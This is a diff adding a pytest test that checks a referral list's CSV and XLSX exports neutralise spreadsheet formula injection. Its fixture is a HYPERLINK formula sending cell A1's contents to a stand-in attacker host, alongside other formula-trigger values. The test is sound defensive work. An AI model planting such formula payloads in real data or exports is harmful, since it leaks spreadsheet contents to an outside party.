@@ -430,3 +430,31 @@ def test_changing_an_area_refreshes_cached_pages():
     assert current_generation() == before + 1
     area.delete()
     assert current_generation() == before + 2
+
+
+FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'
+
+
+@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
+def test_exported_referrals_never_carry_a_working_formula(client, coordinator, export_format):
+    import csv
+
+    from openpyxl import load_workbook
+
+    referral = ReferralFactory(name=FORMULA_NAME, safe_times="+44 then -1", address="@SUM(1)")
+    client.force_login(coordinator)
+    response = client.get(LIST_URL, {"export": export_format})
+    body = b"".join(response.streaming_content) if response.streaming else response.content
+    if export_format == "csv":
+        rows = list(csv.reader(io.StringIO(body.decode())))
+    else:
+        sheet = load_workbook(io.BytesIO(body)).active
+        rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
+        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
+    row = next(row for row in rows if referral.reference in row)
+    if export_format == "csv":
+        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row), row
+        assert "'" + FORMULA_NAME in row and "'+44 then -1" in row and "'@SUM(1)" in row
+    else:
+        # A workbook says what each cell is: these are text, shown as typed.
+        assert FORMULA_NAME in row
